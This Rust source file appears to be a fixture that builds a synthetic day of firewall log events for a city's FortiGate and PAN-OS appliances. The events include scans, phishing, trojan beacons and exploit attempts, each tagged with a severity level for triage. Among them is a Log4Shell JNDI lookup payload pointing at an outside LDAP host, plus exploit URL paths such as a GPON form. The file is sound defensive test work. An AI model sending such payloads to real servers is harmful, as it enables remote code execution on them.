//! What went wrong that day: every level at least once.

use crate::catalog::{self, SiteKind};
use crate::happening::{self as tell, Action, End, Happening, Inspection, Verdict, Via};
use crate::site::{self, ip, outside};

use super::clock;

/// What the FortiGate saw.
pub(super) fn at_city_hall() -> Vec<Happening> {
    let mut day = Vec::new();
    port_scan(&mut day);
    vpn_guessing(&mut day);
    test_file(&mut day);
    malicious_site(&mut day);
    sandbox_verdict(&mut day);
    malware_blocked(&mut day);
    phishing(&mut day);
    infection(&mut day);
    contained_infection(&mut day);
    guest_phone(&mut day);
    resolver(&mut day);
    day
}

/// What the PAN-OS firewall saw.
pub(super) fn at_servers() -> Vec<Happening> {
    let mut day = Vec::new();
    blocked_exploits(&mut day);
    failed_exploit(&mut day);
    answered_exploit(&mut day);
    campaign(&mut day);
    own_scanner(&mut day);
    day
}

/// Level 1: the appliance's own scan verdict with 200 refused packets.
fn port_scan(day: &mut Vec<Happening>) {
    let scanner = outside(5);
    for n in 0..200_u8 {
        let target = ip(198, 51, 100, 2 + n % 6);
        day.push(tell::denied(clock(4, 12, i64::from(n / 2)), scanner, target, 1_000 + u16::from(n)));
    }
    day.push(tell::scan(clock(4, 13, 41), scanner, ip(198, 51, 100, 2)).blocked());
}

/// Level 1: 40 VPN failures for many accounts.
fn vpn_guessing(day: &mut Vec<Happening>) {
    for n in 0..40 {
        day.push(tell::vpn_login(clock(5, 2, n * 9), outside(9), &format!("user{:02}", n % 20), false));
    }
}

/// Level 0: an administrator tests the antivirus.
fn test_file(day: &mut Vec<Happening>) {
    let at = clock(9, 15, 30);
    let (pc, server) = (ip(10, 1, 9, 20), outside(20));
    day.push(tell::malware(at, pc, server, Via::Http, &catalog::EICAR).session(2_800_001).blocked());
}

/// Level 2: a malicious site was visited, nothing was fetched.
fn malicious_site(day: &mut Vec<Happening>) {
    let (pc, server) = (ip(10, 1, 12, 51), outside(21));
    let visit = tell::web(clock(9, 41, 12), pc, server, "cheap-tickets.example", "/win", SiteKind::Malicious);
    day.push(visit.user("yamada").session(2_800_010));
    day.push(tell::traffic(clock(9, 41, 20), pc, server, 443).session(2_800_010).bytes(1_900, 6_200));
}

/// Level 3, known six minutes late: the sandbox judges a delivered file.
fn sandbox_verdict(day: &mut Vec<Happening>) {
    let (pc, server) = (ip(10, 1, 12, 77), outside(22));
    day.push(tell::submitted(clock(10, 12, 3), pc, server, &catalog::RAT).session(2_800_020));
    day.push(tell::traffic(clock(10, 12, 9), pc, server, 80).session(2_800_020).bytes(1_100, 412_000));
    let verdict = tell::judged(clock(10, 18, 31), pc, server, &catalog::RAT, Verdict::Malicious);
    day.push(verdict.session(2_800_020));
}

/// Level 1: malware stopped at the door.
fn malware_blocked(day: &mut Vec<Happening>) {
    let (pc, server) = (ip(10, 1, 12, 45), outside(23));
    let file = tell::malware(clock(11, 5, 44), pc, server, Via::Http, &catalog::MALDOC);
    day.push(file.session(2_800_030).blocked());
    let session = tell::traffic(clock(11, 5, 47), pc, server, 80).session(2_800_030).bytes(1_200, 300_000);
    day.push(session.inspected(Inspection::Antivirus, Action::Blocked));
}

/// Level 3: somebody's password went to a phishing site.
fn phishing(day: &mut Vec<Happening>) {
    let (pc, server) = (ip(10, 1, 12, 60), outside(24));
    let visit = tell::web(clock(11, 32, 2), pc, server, "login-office.example", "/", SiteKind::Phishing);
    day.push(visit.user("kobayashi").session(2_800_040));
    let sent = tell::credentials(clock(11, 33, 15), pc, server, "login-office.example");
    day.push(sent.user("kobayashi").session(2_800_041));
    day.push(tell::traffic(clock(11, 33, 20), pc, server, 443).session(2_800_041).bytes(4_900, 8_800));
}

/// Level 4, not contained: malware passed by a monitor-only profile, then its beacons.
fn infection(day: &mut Vec<Happening>) {
    let (pc, server, controller) = (ip(10, 1, 12, 34), outside(25), outside(26));
    day.push(tell::malware(clock(13, 20, 7), pc, server, Via::Http, &catalog::TROJAN).session(2_800_050));
    day.push(tell::traffic(clock(13, 20, 12), pc, server, 80).session(2_800_050).bytes(900, 248_000));
    for n in 0..12_i64 {
        let session = 2_800_060 + n.unsigned_abs();
        let at = clock(13, 31, 0).plus(n * 600 + n % 7);
        day.push(tell::botnet(at, pc, controller, 443, &catalog::EMOTET).session(session));
        day.push(tell::traffic(at.plus(4), pc, controller, 443).session(session).bytes(2_100, 1_300));
    }
}

/// Level 4, contained: the resolver's answers were forged, but the PC asks and asks.
fn contained_infection(day: &mut Vec<Happening>) {
    let pc = ip(10, 1, 12, 91);
    for n in 0..9_i64 {
        let at = clock(14, 2, 10).plus(n * 180);
        let session = 2_800_100 + 2 * n.unsigned_abs();
        day.push(tell::cc_lookup(at, pc, outside(60), "cdn-metrics.example").session(session).blocked());
        let second = tell::cc_lookup_of(at.plus(1), pc, outside(60), "cdn-metrics.example", "AAAA");
        day.push(second.session(session + 1).blocked());
    }
}

/// Level 4 by mail only: a visitor's phone.
fn guest_phone(day: &mut Vec<Happening>) {
    for n in 0..4_i64 {
        let at = clock(15, 10, 40).plus(n * 300);
        let session = 2_800_140 + n.unsigned_abs();
        day.push(tell::botnet(at, ip(10, 1, 90, 23), outside(27), 8080, &catalog::NJRAT).session(session));
    }
}

/// Level 2: somebody behind the resolver; nobody knows who.
fn resolver(day: &mut Vec<Happening>) {
    for n in 0..20_i64 {
        let at = clock(16, 0, 5).plus(n * 240);
        let asked = tell::cc_lookup(at, site::RESOLVER, outside(61), "oboro-sync.example");
        day.push(asked.session(2_800_160 + n.unsigned_abs()).blocked());
    }
}

/// Level 1: sixty exploits, all reset.
fn blocked_exploits(day: &mut Vec<Happening>) {
    for n in 0..60_i64 {
        let at = clock(3, 22, 0).plus(n * 5);
        let signature = if n % 2 == 0 { &catalog::LOG4J } else { &catalog::SHELLSHOCK };
        let hit = tell::exploit(at, outside(6), site::WEB, 80, signature).behind(site::WEB_PUBLIC);
        day.push(hit.session(450_000 + n.unsigned_abs()).url("/?x=${jndi:ldap://203.0.113.7/a}").reset());
    }
}

/// Level 1, settled: detected only, and the server sent no payload back.
fn failed_exploit(day: &mut Vec<Happening>) {
    let at = clock(8, 52, 11);
    let hit = tell::exploit(at, outside(7), site::WEB, 80, &catalog::GPON).behind(site::WEB_PUBLIC);
    day.push(hit.session(450_100).url("/GponForm/diag_Form?images/"));
    let session = tell::traffic(at.plus(20), outside(7), site::WEB, 80).behind(site::WEB_PUBLIC);
    day.push(session.session(450_100).carried(640, 120, 4, 3).ended(End::ServerReset));
}

/// Level 2: detected only, and the server answered; an answer proves nothing.
fn answered_exploit(day: &mut Vec<Happening>) {
    let at = clock(10, 40, 2);
    let hit = tell::exploit(at, outside(8), site::WEB, 80, &catalog::STRUTS).behind(site::WEB_PUBLIC);
    day.push(hit.session(450_200).url("/apply/form.action"));
    let session = tell::traffic(at.plus(3), outside(8), site::WEB, 80).behind(site::WEB_PUBLIC);
    day.push(session.session(450_200).bytes(1_900, 5_200));
}

/// Level 2, in the day's digest: one source, seven families, nine servers.
fn campaign(day: &mut Vec<Happening>) {
    let families = [
        &catalog::LOG4J,
        &catalog::STRUTS,
        &catalog::SHELLSHOCK,
        &catalog::PHPUNIT,
        &catalog::GPON,
        &catalog::HNAP,
        &catalog::THINKPHP,
    ];
    for target in 0..9_i64 {
        for (family, signature) in (0_i64..).zip(families) {
            let at = clock(12, 5, 0).plus(target * 20 + family * 2);
            let server = ip(10, 1, 200, 40 + target as u8);
            let hit = tell::exploit(at, outside(10), server, 80, signature);
            let session = 450_300 + (target * 7 + family).unsigned_abs();
            day.push(hit.behind(ip(198, 51, 100, 40 + target as u8)).session(session));
        }
    }
}

/// Level 0: the city's own scanner, allowed in the registry.
fn own_scanner(day: &mut Vec<Happening>) {
    for n in 0..40_i64 {
        let at = clock(20, 30, 0).plus(n * 3);
        let server = ip(10, 1, 200, 10 + (n % 8) as u8);
        day.push(
            tell::exploit(at, site::SCANNER, server, 80, &catalog::STRUTS)
                .session(450_500 + n.unsigned_abs()),
        );
    }
}
